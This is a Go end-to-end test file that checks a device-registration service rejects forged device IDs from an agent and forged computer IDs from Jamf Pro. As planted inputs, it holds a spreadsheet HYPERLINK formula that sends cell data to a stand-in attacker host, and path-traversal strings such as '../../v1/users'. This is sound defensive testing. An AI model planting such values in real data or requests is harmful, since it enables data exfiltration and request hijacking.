//go:build linux

package e2e

import (
	"fmt"
	"strings"
	"testing"

	"usher.internal/sim/jamfpro"
)

// A lying agent sends this in the place of a device's ID: a formula for a spreadsheet, or a path to another place.
const (
	plantedFormula = `=HYPERLINK("http://evil.example/?"&A1)`
	plantedPath    = "../../v1/planted-users"
)

// An agent's device ID that is not a GUID is not stored, not shown, and not sent to Jamf Pro.
func TestLyingAgentsDeviceID(t *testing.T) {
	for part, planted := range map[string]string{"device-formula": "HYPERLINK", "device-path": "planted-users"} {
		t.Run(part, func(t *testing.T) {
			s := newStory(t, map[string]any{
				"registration.session_timeout": "4s", "registration.sign_in_timeout": "4s",
				"registration.identity_timeout": "2s",
			})
			s.withJamfPro()
			s.Programs.Agent = s.actAs(part)
			s.must(s.WriteConfig())
			s.start()
			jane := s.loggedIn("v-jane")
			result := s.control(8, "register", "--user", jane.Name, "--wait")
			shown := result.Stdout + result.Stderr + s.Helper.Log()
			for _, arguments := range [][]string{{"status", "--json"}, {"status"}, {"registrations", "list", "--json"},
				{"outbox", "list", "--json"}} {
				result, err := s.Control(s.ctx, arguments...)
				s.must(err)
				shown += result.Stdout + result.Stderr
			}
			shown += fmt.Sprintf("%+v", s.jamfPro.Computers())
			if strings.Contains(shown, planted) {
				t.Errorf("the device ID came through:\n%s", shown)
			}
			if !strings.Contains(shown, "IDENTITY_UNREADABLE") {
				t.Errorf("the registration ended otherwise:\n%s", shown)
			}
			s.unharmed()
		})
	}
}

// A Jamf Pro that lies about a computer's ID costs an attempt, and cannot choose the path of a request.
func TestLyingJamfProsComputerID(t *testing.T) {
	for name, id := range map[string]string{"path": "../../v1/users", "none": "", "negative": "-1",
		"huge": "1" + strings.Repeat("0", 30)} {
		t.Run(name, func(t *testing.T) {
			s := newStory(t, nil)
			s.withJamfPro()
			s.fault(jamfpro.Fault{Kind: jamfpro.FaultWrongID, ID: id, PathPrefix: findPath, Count: 1})
			s.start()
			jane := s.loggedIn("v-jane")
			s.control(0, "register", "--user", jane.Name)
			watched := s.waitState("DELIVERING")
			s.waitHelper(failedLine)
			if log := s.Helper.Log(); !strings.Contains(log, "is not a number") {
				t.Errorf("usherd's log does not say what is wrong:\n%s", log)
			}
			s.control(0, "outbox", "flush")
			s.control(0, "registrations", "watch", watched)
			for _, one := range s.jamfPro.Requests() {
				if strings.HasPrefix(one.Path, "/api/") &&
					(strings.Contains(one.Path, "users") || strings.HasSuffix(one.Path, "-1") ||
						strings.HasSuffix(one.Path, "detail/") || len(one.Path) > 100) {
					t.Errorf("usherd called %s %s", one.Method, one.Path)
				}
			}
			s.wantOneTruth(jane, "SUCCEEDED")
		})
	}
}
